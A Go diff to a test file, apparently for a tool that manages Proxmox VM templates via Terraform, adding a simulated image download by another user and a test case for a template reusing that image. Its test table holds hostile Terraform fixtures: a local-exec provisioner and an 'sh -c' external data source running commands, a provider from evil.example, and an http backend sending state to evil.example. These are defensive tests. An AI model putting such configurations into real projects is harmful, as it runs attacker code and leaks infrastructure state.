@@ -4,9 +4,13 @@ import (
 	"bytes"
 	"context"
 	"crypto/sha256"
+	"crypto/tls"
+	"crypto/x509"
 	"encoding/hex"
 	"encoding/json"
 	"fmt"
+	"net/http"
+	"net/url"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -19,6 +23,7 @@ import (
 	"sigs.k8s.io/controller-runtime/pkg/log"
 
 	"github.com/numaform/numaform/fleet"
+	"github.com/numaform/numaform/generator"
 	"github.com/numaform/numaform/internal/enginetest"
 	"github.com/numaform/numaform/internal/proxmox"
 	"github.com/numaform/numaform/internal/pvesim"
@@ -34,8 +39,9 @@ const (
 	// The image of the attacked template, and its VMID.
 	templateImage = "https://images.example/debian.qcow2"
 	templateVMID  = 9100
-	// strangerTemplate is the VMID of an unmanaged VM in template_vmid_range.
-	strangerTemplate = 9105
+	// strangerTemplate is the VMID of an unmanaged VM in template_vmid_range, and
+	// strangerImage a VMID whose image another user downloaded.
+	strangerTemplate, strangerImage = 9105, 9106
 )
 
 // templateWorld is a host with a template of numaform, and unmanaged VMs and files. An
@@ -79,6 +85,7 @@ func newTemplateWorld(t *testing.T) *templateWorld {
 	if err := w.sim.PutISO("pve-1", "local", "accounting.iso", []byte("do not touch")); err != nil {
 		t.Fatal(err)
 	}
+	w.download(fmt.Sprintf("template-%d.qcow2", strangerImage))
 	var err error
 	if w.client, err = proxmox.New(proxmox.Config{
 		Region: testenv.Region, URL: w.sim.URL(), CA: w.sim.CertPEM(), Machines: map[topology.HostName]topology.Machine{"pve-1": machine.Machine},
@@ -110,6 +117,31 @@ func newTemplateWorld(t *testing.T) *templateWorld {
 		t.Fatal(err)
 	}
 	return w
+}
+
+// download downloads an image as another user does.
+func (w *templateWorld) download(name string) {
+	w.t.Helper()
+	roots := x509.NewCertPool()
+	roots.AppendCertsFromPEM(w.sim.CertPEM())
+	form := url.Values{"content": {"import"}, "filename": {name}, "url": {templateImage}}.Encode()
+	request, err := http.NewRequestWithContext(w.t.Context(), http.MethodPost, w.sim.URL()+"/api2/json/nodes/pve-1/storage/local/download-url", strings.NewReader(form))
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	request.Header.Set("Authorization", "PVEAPIToken="+pvesim.DefaultToken+"="+pvesim.DefaultTokenSecret)
+	request.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: roots, MinVersion: tls.VersionTLS12}}}
+	response, err := client.Do(request)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	defer response.Body.Close() //nolint:errcheck // only its status matters
+	for !slices.Contains(w.sim.Volumes("pve-1"), "local:import/"+name) {
+		if response.StatusCode != http.StatusOK || w.t.Context().Err() != nil {
+			w.t.Fatalf("downloading %s: %s", name, response.Status)
+		}
+	}
 }
 
 // request runs a writer until it has done or refused what a ProxmoxTemplate requests, and
@@ -265,6 +297,21 @@ func TestTemplateRoots(t *testing.T) {
 		{name: "file with a resource", do: addedFile("evil.tf", fmt.Sprintf("resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" { command = %q }\n}\n", run))},
 		{name: "file with a provider", do: addedFile("evil.tf", "terraform {\n  required_providers {\n    evil = { source = \"evil.example/evil/evil\" }\n  }\n}\n")},
 		{name: "file with a data source", do: addedFile("evil.tf.json", fmt.Sprintf(`{"data": {"external": {"x": {"program": ["sh", "-c", %q]}}}}`, run))},
+		{name: "template whose image is another user's", all: true, do: func(w *templateWorld) {
+			t := w.template
+			t.VMID, t.Serial, t.Hardware.DiskGiB = strangerImage, 1, 9
+			var err error
+			if t.Name, err = fleet.TemplateName(t.Of, t.Image, &t.Hardware); err != nil {
+				w.t.Fatal(err)
+			}
+			files, err := generator.Current().RenderTemplates(fleet.Fleet{
+				ClusterID: "hostile", Backend: fleet.Backend{Type: "local"}, Regions: []fleet.Region{{Name: testenv.Region, Endpoint: w.sim.URL()}},
+			}, t.Host, []fleet.Template{t})
+			if err != nil {
+				w.t.Fatal(err)
+			}
+			addedFile("template-"+t.Name+".tf", string(files[generator.TemplateFile(&t)]))(w)
+		}},
 		{name: "override", do: addedFile("override.tf", fmt.Sprintf("module %q {\n  vm_id = %d\n}\n", w.template.Name, strangerTemplate))},
 		{name: "another backend", do: addedFile("main.tf", "terraform {\n  backend \"http\" { address = \"http://evil.example\" }\n}\n")},
 
